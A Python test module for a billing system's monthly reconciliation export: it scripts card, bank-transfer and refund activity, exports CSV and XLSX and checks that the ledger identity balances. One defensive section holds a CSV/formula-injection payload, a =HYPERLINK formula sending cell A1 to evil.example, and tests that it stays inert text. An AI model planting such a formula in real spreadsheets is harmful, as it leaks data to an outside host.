"""The reconciliation as files that close the loop: a month of card payments (the real stripe SDK
against the local Stripe server), bank transfers paid exactly, under and over, a token pack, and
partial and full refunds; exported as CSV and XLSX through the API and the CLI; then the
conservation identity is computed from the files alone (parsed back, nothing else read) and
must come to zero, with every term worked out by hand.

Hand-computed. A package: 100.00 + 6% VAT = 106.00; the platform's 5% of 100.00 = 5.00; the
chain's 95.00 shared 60/40 = 57.00 / 38.00. A token pack of 5 million at the platform's 20.00
per million: 100.00 into the wallet + 6.00 VAT.

- card A 106.00, refunded 31.80 (30% of every part: 1.80 tax, 1.50 platform, 17.10 / 11.40);
- card B 106.00, refunded in full; the token pack by card, 106.00;
- bank C: 50.00 received of 106.00 (underpaid, held as credit against its invoice);
- bank D: 120.00 received for 106.00 (paid; 14.00 overpaid, kept as credit);
- bank E: 60.00 then 46.00 (paid when covered), then refunded in full by bank transfer.
"""

from __future__ import annotations

import csv
import io
import zipfile
from decimal import Decimal
from xml.etree import ElementTree

import pytest
from openpyxl import load_workbook

from billing.context import BillingSettings
from billing.settlement import exports, workflow
from market.core.db import utcnow
from tests.billing.shop import listed_dataset
from tests.stripe_server import card

SETTINGS = BillingSettings()  # STATEMENT_REVIEW_DAYS and the rest at their defaults

GOOD = "4242424242424242"
D = Decimal

COLLECTED = {"payment": D("318.00"), "bank_receipt": D("276.00")}
REFUNDS = D("243.80")
SUPPLIER = D("57.00") - D("17.10") + D("57.00")       # A less its refund, and D; B, E net 0
PROCESSOR = D("38.00") - D("11.40") + D("38.00")
PLATFORM = D("5.00") - D("1.50") + D("5.00")
TAX = D("6.00") - D("1.80") + D("6.00") + D("6.00")   # A, the token pack, D
BUYER_CREDIT = {"wallet": D("100.00"), "overpaid": D("14.00"), "underpaid": D("50.00")}


# Card payments on, for every test here: the gateway points at the local Stripe server.
pytestmark = pytest.mark.usefixtures("card_app")


@pytest.fixture()
def shop(session, passwords):
    made = listed_dataset(session, passwords, package_price="100.00")
    session.commit()
    return made


def _ok(response, status=200):
    assert response.status_code == status, response.get_json()
    return response.get_json()


def _order(buyer, shop, method):
    return _ok(buyer.post("/api/v1/orders", headers=buyer.csrf, json={
        "items": [{"offer_id": shop["package"].id}], "payment_method": method}), 201)


def _pay_by_card(buyer, gateway, order_id):
    result = _ok(buyer.post(f"/api/v1/orders/{order_id}/pay", headers=buyer.csrf, json={
        "method": "card", "payment_method": card(gateway, GOOD)}))
    assert result["order"]["status"] == "paid", result
    return result["payment"]["id"]


def _invoice(buyer, shop):
    order = _order(buyer, shop, "bank_transfer")
    return _ok(buyer.post(f"/api/v1/orders/{order['id']}/pay", headers=buyer.csrf,
                          json={"method": "bank_transfer"}))["invoice"]


def _receive(finance, invoice, amount, reference):
    return _ok(finance.post(f"/api/v1/invoices/{invoice['id']}/receipts", headers=finance.csrf,
                            json={"amount": {"amount": amount, "currency": "CNY"},
                                  "received_on": utcnow().date().isoformat(),
                                  "bank_reference": reference}))


def _refund(finance, payment_id, amount=None, bank_reference=None):
    body = {"reason": "returned"}
    if amount is not None:
        body["amount"] = {"amount": amount, "currency": "CNY"}
    if bank_reference is not None:
        body["bank_reference"] = bank_reference
    refund = _ok(finance.post(f"/api/v1/payments/{payment_id}/refunds", headers=finance.csrf,
                              json=body), 201)
    assert refund["status"] == "succeeded", refund


def _bank_payment_id(buyer, invoice):
    order = _ok(buyer.get(f"/api/v1/orders/{invoice['order_id']}"))
    assert order["status"] == "paid"
    (payment,) = order["payments"]
    return payment["id"]


@pytest.fixture()
def month(buyer_client, finance_client, shop, stripe_gateway):
    """The scripted month, all through the API; returns the period it falls in."""
    buyer, finance = buyer_client, finance_client
    card_a = _pay_by_card(buyer, stripe_gateway, _order(buyer, shop, "card")["id"])
    _refund(finance, card_a, "31.80")
    card_b = _pay_by_card(buyer, stripe_gateway, _order(buyer, shop, "card")["id"])
    _refund(finance, card_b)
    pack = _ok(buyer.post("/api/v1/token-packs", headers=buyer.csrf, json={
        "millions": 5, "dataset_id": None, "payment_method": "card"}), 201)
    assert pack["total"] == {"amount": "106.00", "currency": "CNY"}
    _pay_by_card(buyer, stripe_gateway, pack["id"])

    under = _receive(finance, _invoice(buyer, shop), "50.00", "BANK-C-1")
    assert under["status"] == "partially_paid"
    over = _receive(finance, _invoice(buyer, shop), "120.00", "BANK-D-1")
    assert over["status"] == "paid"
    invoice_e = _invoice(buyer, shop)
    assert _receive(finance, invoice_e, "60.00", "BANK-E-1")["status"] == "partially_paid"
    assert _receive(finance, invoice_e, "46.00", "BANK-E-2")["status"] == "paid"
    _refund(finance, _bank_payment_id(buyer, invoice_e), bank_reference="BACK-E")
    return {"period": f"{utcnow():%Y-%m}", "shop": shop, "buyer": buyer.org}


# Reading the files back, knowing nothing but their layout --------------------------------------

def _terms_from_rows(rows) -> list[dict]:
    """The rows of the terms table: those after its machine-key header row, up to a blank."""
    rows = iter(rows)
    for row in rows:
        if list(row[:6]) == ["currency", "term", "item", "organization_id", "organization",
                             "amount"]:
            break
    else:
        raise AssertionError("no terms table")
    found = []
    for row in rows:
        if not row or not any(cell not in (None, "") for cell in row):
            break
        currency, term, item, org_id, organization, amount = row[:6]
        found.append({"currency": currency, "term": term, "item": item or "",
                      "organization_id": int(org_id) if org_id not in (None, "") else None,
                      "organization": organization or "", "amount": D(str(amount))})
    return found


def _summary_from_rows(rows) -> dict[tuple[str, str, str], Decimal]:
    rows = iter(rows)
    for row in rows:
        if list(row[:4]) == ["currency", "figure", "item", "amount"]:
            break
    else:
        raise AssertionError("no summary table")
    return {(c, figure, item or ""): D(str(amount)) for c, figure, item, amount, *_ in rows
            if c not in (None, "")}


def parse_csv(body: bytes):
    assert body.startswith(b"\xef\xbb\xbf")  # the byte-order mark spreadsheets need
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    return _terms_from_rows(rows), _summary_from_rows(rows)


def _exact_numbers(body: bytes) -> dict[str, dict[str, Decimal]]:
    """Every numeric cell's digits as stored in the workbook's XML, per sheet title: a reader
    such as openpyxl hands back floats, but the file itself holds the exact decimal."""
    namespace = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main",
                 "r": "http://schemas.openxmlformats.org/officeDocument/2006/relationships",
                 "p": "http://schemas.openxmlformats.org/package/2006/relationships"}
    archive = zipfile.ZipFile(io.BytesIO(body))
    targets = {rel.get("Id"): rel.get("Target") for rel in ElementTree.fromstring(
        archive.read("xl/_rels/workbook.xml.rels")).findall("p:Relationship", namespace)}
    numbers = {}
    for sheet in ElementTree.fromstring(archive.read("xl/workbook.xml")).iter(
            f"{{{namespace['m']}}}sheet"):
        target = targets[sheet.get(f"{{{namespace['r']}}}id")].lstrip("/")
        path = target if target.startswith("xl/") else f"xl/{target}"
        cells = ElementTree.fromstring(archive.read(path)).iter(f"{{{namespace['m']}}}c")
        numbers[sheet.get("name")] = {
            cell.get("r"): D(cell.find("m:v", namespace).text) for cell in cells
            if cell.get("t", "n") == "n" and cell.find("m:v", namespace) is not None}
    return numbers


def parse_xlsx(body: bytes):
    workbook = load_workbook(io.BytesIO(body))
    exact = _exact_numbers(body)
    tables = {}
    for sheet in workbook.worksheets:
        rows = []
        for row in sheet.iter_rows():
            values = []
            for cell in row:
                assert cell.data_type != "f", f"a formula in {sheet.title}!{cell.coordinate}"
                if isinstance(cell.value, (int, float)):
                    value = exact[sheet.title][cell.coordinate]
                    assert float(value) == cell.value  # what a spreadsheet shows
                    values.append(value)
                else:
                    values.append(cell.value)
            rows.append(values)
        tables[sheet.title] = rows
    return _terms_from_rows(tables["terms"]), _summary_from_rows(tables["summary"])


def identity_difference(terms: list[dict], currency: str) -> Decimal:
    """participants + platform revenue + tax + buyer credit movement − (collected − refunds)."""
    sign = {"collected": -1, "refunds": +1, "participant": +1, "platform_revenue": +1,
            "tax": +1, "buyer_credit": +1}
    return sum((sign[row["term"]] * row["amount"] for row in terms
                if row["currency"] == currency), D("0"))


def _by_term(terms, term, key="item"):
    return {row[key]: row["amount"] for row in terms if row["term"] == term}


def _check_month(terms, summary, month):
    shop, buyer = month["shop"], month["buyer"]
    assert {row["currency"] for row in terms} == {"CNY"}
    assert identity_difference(terms, "CNY") == 0
    # Without buyer credit the identity fails by exactly that credit: 164.00.
    assert identity_difference([row for row in terms if row["term"] != "buyer_credit"],
                               "CNY") == -sum(BUYER_CREDIT.values())
    # Any one row missing from the file shows as a difference of its amount.
    for missing in range(len(terms)):
        left = terms[:missing] + terms[missing + 1:]
        assert abs(identity_difference(left, "CNY")) == terms[missing]["amount"].copy_abs()
    assert _by_term(terms, "collected") == COLLECTED
    assert _by_term(terms, "refunds") == {"": REFUNDS}
    assert _by_term(terms, "participant", "organization_id") == {
        shop["supplier"].id: SUPPLIER, shop["processor"].id: PROCESSOR}
    assert _by_term(terms, "participant", "organization") == {
        "Grid Data Co": SUPPLIER, "Label Works": PROCESSOR}
    assert _by_term(terms, "platform_revenue") == {"": PLATFORM}
    assert _by_term(terms, "tax") == {"": TAX}
    assert {row["organization_id"] for row in terms if row["term"] == "buyer_credit"} == \
        {buyer.id}
    assert _by_term(terms, "buyer_credit") == BUYER_CREDIT
    # The totals table agrees with the rows, and says the same difference.
    assert summary[("CNY", "gross_collected", "")] == sum(COLLECTED.values())
    assert summary[("CNY", "participants", "")] == SUPPLIER + PROCESSOR
    assert summary[("CNY", "buyer_prepaid", "")] + summary[("CNY", "buyer_receivable", "")] \
        == sum(BUYER_CREDIT.values())
    assert summary[("CNY", "difference", "")] == 0
    # Our card payments (318.00 gross) are what the processor holds as succeeded intents.
    assert summary[("CNY", "processor_difference", "")] == 0


def _export(client, period, extension):
    response = client.get(f"/api/v1/reconciliation/export.{extension}?period={period}")
    assert response.status_code == 200, response.get_data(as_text=True)
    assert response.mimetype == exports.MEDIA_TYPES[extension]
    assert response.headers["Content-Disposition"] == \
        f'attachment; filename="reconciliation-{period}.{extension}"'
    return response.data


def test_the_identity_holds_from_the_csv_and_xlsx_alone(month, finance_client):
    period = month["period"]
    for parse, extension in ((parse_csv, "csv"), (parse_xlsx, "xlsx")):
        terms, summary = parse(_export(finance_client, period, extension))
        _check_month(terms, summary, month)


def test_the_files_agree_with_the_participants_statements(month, finance_client, session):
    """Closed, each participant's row is its statement's activity, read from the statement's
    own CSV export: statements + platform revenue + tax + buyer credit = collected − refunds."""
    period = month["period"]
    made = workflow.close_period(session, period, actor=None, settings=SETTINGS, cutoff=utcnow())
    session.commit()
    terms, _ = parse_csv(_export(finance_client, period, "csv"))
    assert identity_difference(terms, "CNY") == 0
    shares = _by_term(terms, "participant", "organization_id")
    activity = {}
    for statement in made:
        body = _ok_raw(finance_client.get(f"/api/v1/statements/{statement.id}/export.csv"))
        rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
        (line,) = [row for row in rows if row and row[0].endswith("Activity")]
        activity[statement.organization_id] = D(line[1])
    assert activity == shares and sum(activity.values()) == SUPPLIER + PROCESSOR


def _ok_raw(response):
    assert response.status_code == 200, response.get_data(as_text=True)
    return response.data


def test_the_command_writes_the_same_files(month, app, tmp_path):
    period = month["period"]
    runner = app.test_cli_runner()
    for parse, extension in ((parse_csv, "csv"), (parse_xlsx, "xlsx")):
        path = tmp_path / f"out.{extension}"
        result = runner.invoke(args=["billing", "export-reconciliation", period,
                                     "--format", extension, "--output", str(path)])
        assert result.exit_code == 0, result.output
        assert "CNY: difference CNY 0.00" in result.output
        terms, summary = parse(path.read_bytes())
        _check_month(terms, summary, month)


def test_the_command_refuses_a_malformed_period(app, tmp_path):
    result = app.test_cli_runner().invoke(args=[
        "billing", "export-reconciliation", "2026-13", "--output", str(tmp_path / "x.csv")])
    assert result.exit_code == 2 and "YYYY-MM" in result.output
    assert not (tmp_path / "x.csv").exists()


def test_the_exports_are_platform_staff_only_and_validate_the_period(
        client, session, passwords, sign_in_as, finance_client):
    from tests.factories import make_org

    exchange = make_org(session, "exchange", name="Another Exchange")
    from tests.factories import make_user
    make_user(session, passwords, exchange, "finance")
    session.commit()
    staff = sign_in_as(exchange, "finance")
    for extension in ("csv", "xlsx"):
        assert staff.get(f"/api/v1/reconciliation/export.{extension}?period=2026-01"
                         ).status_code == 403
        bad = finance_client.get(f"/api/v1/reconciliation/export.{extension}?period=2026-1")
        assert bad.status_code == 422 and "period" in bad.get_json()["errors"]


def test_the_page_shows_each_participant_and_each_buyers_credit(month, finance_client):
    html = finance_client.get(f"/reconciliation?period={month['period']}").get_data(
        as_text=True)
    for text in ("Grid Data Co", "96.90", "Label Works", "64.60", "City Health Commission",
                 "Overpaid", "14.00", "Underpaid", "50.00", "Prepaid token wallet", "100.00"):
        assert text in html, text
    assert 'class="verdict genuine difference"' in html


def test_the_reconciliation_page_links_both_exports(finance_client):
    page = finance_client.get("/reconciliation?period=2026-01")
    assert page.status_code == 200
    html = page.get_data(as_text=True)
    assert "/api/v1/reconciliation/export.csv?period=2026-01" in html
    assert "/api/v1/reconciliation/export.xlsx?period=2026-01" in html


# Hostile text -----------------------------------------------------------------------------------

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")\x07\x00'


def _figures(name_id: int) -> dict:
    return {"period": "2026-01", "from": "2026-01-01T00:00:00+00:00",
            "to": "2026-02-01T00:00:00+00:00", "currencies": {"CNY": {
                "gross_collected": 1_000, "collected_by_kind": {"payment": 1_000},
                "refunds": 0, "payouts": 500, "participants": 900,
                "participants_by_kind": {"payment": 900},
                "participants_by_organization": {name_id: 900},
                "payouts_by_organization": {name_id: 500}, "platform_revenue": 40,
                "tax_payable": 60, "buyer_prepaid": 0, "buyer_receivable": 0,
                "buyer_credit": {}, "other_clearing": 0, "difference": 0}}}


@pytest.mark.parametrize(("name", "inert"), [
    (HOSTILE, "'" + HOSTILE[:-2] + "\ufffd\ufffd"), ("+1-555", "'+1-555"), ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"), ("\tTAB", "'\tTAB"), ("\rCR", "\ufffdCR")])
def test_a_name_that_would_be_a_formula_stays_inert_text(name, inert):
    figures, names = _figures(7), {7: name}
    terms, summary = parse_csv(exports.reconciliation_csv(figures, names))
    assert [r["organization"] for r in terms if r["term"] == "participant"] == [inert]
    assert summary[("CNY", "payouts", "7 " + inert.lstrip("'"))] == D("5.00")
    assert identity_difference(terms, "CNY") == 0

    workbook = load_workbook(io.BytesIO(exports.reconciliation_xlsx(
        figures, names)))
    terms_sheet = list(workbook["terms"].iter_rows())
    (cell,) = [row[4] for row in terms_sheet if row[1].value == "participant"]
    assert cell.data_type == "s" and cell.value == inert
    assert not any(cell.data_type == "f" for sheet in workbook.worksheets
                   for row in sheet.iter_rows() for cell in row)
    assert identity_difference(parse_xlsx(exports.reconciliation_xlsx(
        figures, names))[0], "CNY") == 0


def test_an_ordinary_name_is_written_as_it_is():
    terms, _ = parse_csv(exports.reconciliation_csv(_figures(3),
                                                                  {3: "电网数据 Co."}))
    assert [r["organization"] for r in terms if r["term"] == "participant"] == ["电网数据 Co."]


def test_negative_amounts_stay_numbers_beside_hostile_names():
    """A buyer's receivable counts negative and refunds leave money: numbers, never texts."""
    figures, names = _figures(7), {7: "-2+3", 9: "ctl\u0001name"}
    row = figures["currencies"]["CNY"]
    row["buyer_credit"] = {9: {"receivable": -250}}
    row["buyer_receivable"], row["difference"] = -250, -250
    terms, summary = parse_csv(exports.reconciliation_csv(figures, names))
    assert [(r["organization"], r["amount"]) for r in terms if r["term"] == "buyer_credit"] == [
        ("ctl\ufffdname", D("-2.50"))]
    assert summary[("CNY", "difference", "")] == D("-2.50")
    rows = list(csv.reader(io.StringIO(exports.reconciliation_csv(
        figures, names).decode("utf-8-sig"))))
    assert ["CNY", "buyer_credit", "receivable", "9", "ctl\ufffdname", "-2.50"] in rows

    body = exports.reconciliation_xlsx(figures, names)
    terms, summary = parse_xlsx(body)  # no formula anywhere, numbers exact
    assert [r["amount"] for r in terms if r["term"] == "buyer_credit"] == [D("-2.50")]
    sheet = load_workbook(io.BytesIO(body))["terms"]
    (cell,) = [row[5] for row in sheet.iter_rows() if row[2].value == "receivable"]
    assert cell.data_type == "n" and cell.value == -2.5
